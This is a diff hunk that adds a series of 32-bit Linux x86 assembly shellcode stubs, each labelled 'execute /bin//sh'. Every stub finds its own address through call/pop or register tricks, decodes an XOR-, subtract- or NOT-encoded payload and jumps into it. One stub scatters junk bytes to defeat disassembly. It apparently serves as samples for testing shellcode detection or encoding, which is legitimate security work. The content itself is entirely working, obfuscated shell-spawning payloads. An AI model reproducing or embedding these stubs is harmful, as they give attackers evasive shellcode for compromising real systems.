@@ -182,3 +182,114 @@ next:	mov ah, [esi]
 	jmp short payload
 down:	call up
 payload: ENCODE c ^ 0x2a
+
+;= pointer_in_eax 32 | linux x86 | execute /bin//sh
+start:	lea esi, [eax + payload - start]
+	push byte LENGTH
+	pop ecx
+next:	xor byte [esi + ecx - 1], 0x61
+	loop next
+	jmp esi
+payload: ENCODE c ^ 0x61
+
+;= pointer_in_esp 32 | linux x86 | execute /bin//sh
+start:	mov esi, esp
+	add esi, byte payload - start
+	push byte LENGTH
+	pop ecx
+next:	sub byte [esi + ecx - 1], 0x61
+	loop next
+	jmp esi
+payload: ENCODE c + 0x61
+
+;= near_jump_down 32 | linux x86 | execute /bin//sh
+	jmp near down
+up:	pop ebp
+	push byte LENGTH
+	pop ecx
+next:	xor byte [ebp + ecx - 1], 0x61
+	loop next
+	jmp ebp
+	times 180 db 0x61
+down:	call up
+	ENCODE c ^ 0x61
+
+;= return_to_it 32 | linux x86 | execute /bin//sh
+	call here
+here:	add dword [esp], byte payload - here
+	mov ebx, [esp]
+	push byte LENGTH
+	pop ecx
+next:	not byte [ebx + ecx - 1]
+	loop next
+	ret
+payload: ENCODE ~c
+
+;= call_and_count 32 | linux x86 | execute /bin//sh
+	call $ + 4
+	db 0xc1			; ffc1: inc ecx
+	pop ebx
+	add ebx, byte 31
+	push byte LENGTH
+	pop ecx
+	lea ebx, [ebx]
+next:	xor byte [ebx + ecx - 8], 0x61
+	loop next
+	lea ebx, [ebx - 7]
+	jmp ebx
+	nop
+	nop
+payload: ENCODE c ^ 0x61
+
+;= ebp_frame 32 | linux x86 | execute /bin//sh
+	push ebp
+	mov ebp, esp
+	call here
+here:	mov eax, [ebp - 4]
+	add eax, byte payload - here
+	xor ecx, ecx
+next:	xor byte [eax + ecx], 0x61
+	inc ecx
+	cmp ecx, LENGTH
+	jl next
+	leave
+	jmp eax
+payload: ENCODE c ^ 0x61
+
+;= call_in_a_call 32 | linux x86 | execute /bin//sh
+	call one
+back:	push byte LENGTH
+	pop ecx
+next:	xor byte [esi + ecx - 1], 0x61
+	loop next
+	jmp esi
+one:	mov esi, [esp]
+	add esi, byte payload - back
+	ret
+payload: ENCODE c ^ 0x61
+
+;= jumps_between_instructions 32 | linux x86 | execute /bin//sh
+	call a
+a:	pop esi
+	jmp short b
+	db 0x0f, 0x0b
+b:	add esi, byte payload - a
+	jmp short d
+	db 0xf1, 0xe8
+d:	push byte LENGTH
+	jmp short f
+	db 0xff
+f:	pop ecx
+g:	jmp short h
+	db 0x9a
+h:	xor byte [esi], 0x61
+	jmp short k
+	db 0xea
+k:	inc esi
+	dec ecx
+	jz m
+	jmp short g
+	db 0xcc
+m:	jmp short payload
+	db 0xe9
+payload: ENCODE c ^ 0x61
